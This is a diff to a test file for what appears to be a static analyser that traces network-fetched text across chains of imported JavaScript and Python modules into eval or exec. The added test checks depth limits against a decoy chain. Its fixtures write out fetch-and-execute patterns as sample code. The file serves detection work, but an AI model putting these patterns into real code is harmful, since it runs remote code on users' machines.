@@ -113,6 +113,21 @@ describe('module shapes', () => {
     expect(flowAt({ 'c.py': `import requests\ndef body():\n    return requests.get(${U}).text\n`, 'b.py': 'import c\ndef load():\n    return c.body()\n', 'a.py': 'from b import load\nexec(load())\n' })).toEqual(['a.py:2']);
   });
 
+  it('follows a short chain to a file that a longer chain, read first, reached past the limit', () => {
+    // a.js -> b -> c -> d -> x -> y is too long to follow; z.js -> x -> y is not. x, first reached
+    // at the limit, must be read again from z, nearer the top (a decoy chain sorted first hid it).
+    const get = (name: string, from: string, call: string) => `import { ${call} } from './${from}.js';\nexport function ${name}() {\n  return ${call}();\n}\n`;
+    expect(flowAt({
+      'y.js': `export function getY() {\n  return fetch(${U}).then((r) => r.text());\n}\n`,
+      'x.js': get('getX', 'y', 'getY'),
+      'd.js': get('getD', 'x', 'getX'),
+      'c.js': get('getC', 'd', 'getD'),
+      'b.js': get('getB', 'c', 'getC'),
+      'a.js': "import { getB } from './b.js';\ngetB().then((s) => eval(s));\n",
+      'z.js': "import { getX } from './x.js';\ngetX().then((s) => eval(s));\n",
+    })).toEqual(['z.js:2']);
+  });
+
   it('does not block a helper whose fetched text is printed, or a chain that ends in data', () => {
     expect(flows({ 'net.js': `export default async function load() {\n  return (await fetch(${U})).text();\n}\n`, 'main.mjs': `import load from './net.js';\nconsole.log(await load());\nconst cfg = eval('(' + localConfig + ')');\n` })).toEqual([]);
     expect(flows({ 'pkg/net.py': `import requests\ndef load():\n    return requests.get(${U}).json()\n`, 'pkg/main.py': 'from . import net\nimport json\nprint(json.dumps(net.load()))\nexec(open("local.py").read())\n' })).toEqual([]);
